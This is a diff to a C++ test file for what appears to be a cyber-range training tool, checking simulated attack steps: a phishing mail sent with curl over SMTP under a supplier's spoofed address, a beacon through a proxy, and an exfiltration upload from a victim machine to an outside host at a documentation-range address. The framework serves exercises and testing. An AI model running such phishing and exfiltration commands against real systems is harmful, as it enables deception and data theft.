@@ -50,7 +50,7 @@ TEST_F(ActionsTest, AMailIsSentFromTheAttackersHostAndFoundInTheMailbox) {
     EXPECT_EQ(evidence["file"], "/home/suzuki/Maildir/new/1.gate");
     EXPECT_EQ(evidence["sha256"], dsl::sha256_hex("お見積書 an estimate\n"));
     EXPECT_TRUE(ran("attacker: /usr/bin/curl"));
-    EXPECT_TRUE(ran("smtp://203.0.113.25:25 --mail-from taro@supplier.example --mail-rcpt "
+    EXPECT_TRUE(ran("smtp://203.0.113.25:25/supplier.example --mail-from taro@supplier.example --mail-rcpt "
                     "suzuki@city.hinode.example"));
     const std::string eml =
         range_.guest("attacker").read("/run/enshu/outgoing-phish.eml", dsl::Milliseconds(1));
@@ -101,7 +101,7 @@ TEST_F(ActionsTest, TheAttachmentIsOpenedAndIsTheOneThatWasSent) {
 TEST_F(ActionsTest, AnotherFileThanTheOneSentIsAFailure) {
     perform(context("phish"));
     std::ofstream(directory_.path() / "estimate.txt") << "changed";
-    EXPECT_NE(failure("open").find("is not the attachment that was sent"), std::string::npos);
+    EXPECT_NE(failure("open").find("is not the one that was sent"), std::string::npos);
 }
 
 TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
@@ -121,7 +121,8 @@ TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
 TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
     const auto evidence = perform(context("exfil"));
     EXPECT_EQ(evidence["bytes"], 9);
-    EXPECT_TRUE(ran("pc-suzuki: /usr/sbin/runuser -u suzuki -- /usr/lib/enshu/actor upload --url "
+    EXPECT_TRUE(ran("pc-suzuki: /usr/bin/setpriv --reuid=suzuki --regid=suzuki --init-groups -- "
+                    "/usr/lib/enshu/actor upload --url "
                     "http://198.51.100.66" +
                     upload_path("exfil") +
                     " --proxy 203.0.113.25:3128 --file "
